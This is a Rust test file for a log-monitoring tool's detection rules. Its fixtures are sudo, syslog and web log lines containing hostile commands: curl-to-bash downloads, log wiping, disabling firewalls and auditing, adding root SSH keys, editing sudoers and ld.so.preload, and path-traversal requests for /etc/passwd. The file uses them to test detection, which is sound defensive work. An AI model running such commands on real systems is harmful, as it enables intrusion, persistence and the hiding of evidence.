//! The rules that come with secmon: what each finds, and what it leaves alone.

use std::collections::BTreeSet;

use secmon_core::sigma::SigmaRules;
use secmon_core::{Counters, Ruleset};

fn shipped() -> Ruleset {
    let mut rules = SigmaRules::default();
    rules.load_shipped();
    assert_eq!(rules.problems(), []);
    assert_eq!(rules.unmapped().len(), 0, "only fields that parsers give");
    Ruleset::builder().sigma(&rules).build().unwrap()
}

/// Ids of the rules that find something in these lines.
fn found(lines: &[&str]) -> BTreeSet<String> {
    let ruleset = shipped();
    let mut counters = Counters::new(&ruleset);
    let now = "2026-11-20T12:00:00Z".parse().unwrap();
    for (seq, prepared) in (0..).zip(ruleset.prepare_lines(lines, now)) {
        assert_eq!(prepared.error(), None);
        counters.event("test", seq, &prepared);
    }
    counters.incidents().into_iter().map(|incident| incident.rule).collect()
}

fn sudo(command: &str) -> String {
    format!("Nov 20 11:58:00 web-1 sudo: bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND={command}")
}

fn get(path: &str, status: u16) -> String {
    format!(
        r#"203.0.113.7 - - [20/Nov/2026:11:58:00 +0000] "GET {path} HTTP/1.1" {status} 7 "-" "x""#
    )
}

const ADDED: &str = "Nov 20 11:57:00 web-1 useradd[4]: new user: name=eve, UID=1001, GID=1001, home=/home/eve, shell=/bin/bash, from=none";
const LOGIN: &str =
    "Nov 20 11:58:00 web-1 sshd[5]: Accepted password for eve from 203.0.113.7 port 22 ssh2";

#[test]
fn each_rule_finds_what_it_is_for() {
    for (rule, lines) in [
        ("account_created", vec![ADDED.to_owned()]),
        (
            "admin_group_joined",
            vec!["Nov 20 11:57:00 web-1 usermod[4]: add 'eve' to group 'sudo'".into()],
        ),
        (
            "admin_group_joined",
            vec!["Nov 20 11:57:00 web-1 gpasswd[4]: user eve added by root to group wheel".into()],
        ),
        ("download_and_run", vec![sudo("/bin/sh -c curl -fsSL http://203.0.113.9/x | bash")]),
        ("firewall_off", vec![sudo("/usr/sbin/ufw disable")]),
        ("firewall_off", vec![sudo("/usr/bin/systemctl stop firewalld")]),
        ("logging_stopped", vec![sudo("/usr/bin/systemctl --now disable rsyslog.service")]),
        ("logging_stopped", vec![sudo("/usr/sbin/setenforce 0")]),
        ("logs_removed", vec![sudo("/usr/bin/rm -rf /var/log/auth.log")]),
        ("logs_removed", vec![sudo("/usr/bin/journalctl --vacuum-time=1s")]),
        ("logs_removed", vec![sudo("/usr/bin/rm -rf /var/log")]),
        ("logs_removed", vec![sudo("/bin/sh -c '> /var/log/auth.log'")]),
        ("logs_removed", vec![sudo("/usr/bin/cp /dev/null /var/log/auth.log")]),
        ("logs_removed", vec![sudo("/usr/bin/find /var/log -name *.gz -delete")]),
        ("logging_stopped", vec![sudo("/usr/sbin/service auditd stop")]),
        ("logging_stopped", vec![sudo("/usr/sbin/auditctl -D")]),
        ("firewall_off", vec![sudo("/usr/sbin/iptables -t nat -F")]),
        ("firewall_off", vec![sudo("/usr/sbin/ip6tables --flush")]),
        ("firewall_off", vec![sudo("/usr/sbin/iptables -P INPUT ACCEPT")]),
        ("privileged_file_changed", vec![sudo("sudoedit /etc/sudoers")]),
        (
            "privileged_file_changed",
            vec![sudo("/bin/sh -c 'echo x >> /root/.ssh/authorized_keys'")],
        ),
        ("privileged_file_changed", vec![sudo("/usr/bin/sed -i.bak s/a/b/ /etc/pam.d/sshd")]),
        ("privileged_file_changed", vec![sudo("/usr/bin/cp /tmp/x /etc/ld.so.preload")]),
        (
            "download_and_run",
            vec![sudo("/bin/bash -c 'curl http://203.0.113.9/x | sudo -E bash -'")],
        ),
        ("download_and_run", vec![sudo("/bin/bash -c '$(curl http://203.0.113.9/x)'")]),
        ("web_traversal_answered", vec![get("/a/%2e%2e%2f%2e%2e%2fetc/passwd", 200)]),
        ("web_traversal_answered", vec![get("/cgi-bin/.%2e/.%2e/.%2e/bin/sh", 200)]),
        ("privileged_file_changed", vec![sudo("/usr/bin/tee -a /etc/sudoers.d/eve")]),
        ("privileged_file_changed", vec![sudo("/usr/bin/vim /root/.ssh/authorized_keys")]),
        ("web_traversal_answered", vec![get("/download?file=../../../etc/passwd", 200)]),
        (
            "web_probing",
            ["/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/", "/actuator/env"]
                .map(|path| get(path, 404))
                .into(),
        ),
    ] {
        let lines: Vec<&str> = lines.iter().map(String::as_str).collect();
        assert_eq!(found(&lines), BTreeSet::from([rule.to_owned()]), "{lines:?}");
    }
    let both = ["account_created", "new_account_login"].map(str::to_owned);
    assert_eq!(found(&[ADDED, LOGIN]), BTreeSet::from(both));
}

#[test]
fn everyday_work_is_left_alone() {
    let everyday = [
        LOGIN.to_owned(),
        "Nov 20 11:57:00 web-1 groupadd[4]: new group: name=eve, GID=1001".into(),
        "Nov 20 11:57:00 web-1 usermod[4]: add 'eve' to group 'plugdev'".into(),
        "Nov 20 11:57:00 web-1 userdel[4]: delete user 'eve'".into(),
        "Nov 20 11:57:00 web-1 sudo: bob : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/sbin/ufw disable".into(),
        sudo("/usr/bin/systemctl restart rsyslog"),
        sudo("/usr/bin/systemctl status auditd"),
        sudo("/usr/bin/curl -fsS http://192.0.2.1/health"),
        sudo("/usr/bin/less /var/log/auth.log"),
        sudo("/usr/bin/rm -rf /var/cache/apt"),
        sudo("/usr/sbin/visudo"),
        sudo("/usr/bin/cat /etc/sudoers"),
        sudo("/usr/sbin/iptables -L"),
        sudo("/usr/bin/journalctl -e"),
        get("/docs/../../index.html", 404),
        get("/.env", 404),
        get("/wp-login.php", 200),
        get("/wp-login.php?again", 200),
        get("/wp-login.php", 200),
        get("/a?file=/etc/hosts", 200),
        get("/search?q=/etc/passwd", 200),
        get("/nagios/cgi-bin/status.cgi", 200),
        get("/nagios/cgi-bin/tac.cgi", 200),
        get("/nagios/cgi-bin/extinfo.cgi", 200),
        get("/nagios/cgi-bin/avail.cgi", 200),
        get("/nagios/cgi-bin/history.cgi", 200),
        "Nov 20 11:57:00 web-1 usermod[4]: delete 'eve' from group 'sudo'".into(),
        "Nov 20 11:57:00 web-1 gpasswd[4]: user eve removed by root from group sudo".into(),
        "Nov 20 11:57:00 web-1 sudo: bob : command not allowed ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh -c curl http://192.0.2.9/x | sh".into(),
        sudo("/usr/bin/dd if=/var/log/syslog of=/tmp/copy"),
        sudo("/usr/bin/rm -rf /home/ci/rootfs/var/log/apt"),
        sudo("/usr/bin/journalctl --vacuum-size=500M"),
        sudo("/usr/sbin/auditctl -d always,exit -S all"),
        sudo("/usr/bin/systemctl stop secmon-agent-test"),
        sudo("/usr/sbin/iptables -F DOCKER-USER"),
        sudo("/usr/bin/systemctl stop nginx iptables-exporter"),
        sudo("/usr/bin/cp /etc/sudoers /root/backup"),
    ];
    let lines: Vec<&str> = everyday.iter().map(String::as_str).collect();
    assert_eq!(found(&lines), BTreeSet::new());
}

#[test]
fn each_rule_says_its_technique_and_what_to_do() {
    let ruleset = shipped();
    let mut shown = 0;
    // Those that only correlations are told say nothing by themselves.
    for rule in ruleset.rules().filter(|rule| !rule.id().starts_with("secmon_")) {
        let about = rule.about();
        assert!(about.technique.starts_with('T') && about.advice.len() > 40, "{}", rule.id());
        assert!(!about.description.is_empty() && about.advice.ends_with('.'), "{}", rule.id());
        shown += 1;
    }
    assert_eq!(shown, 10);
}
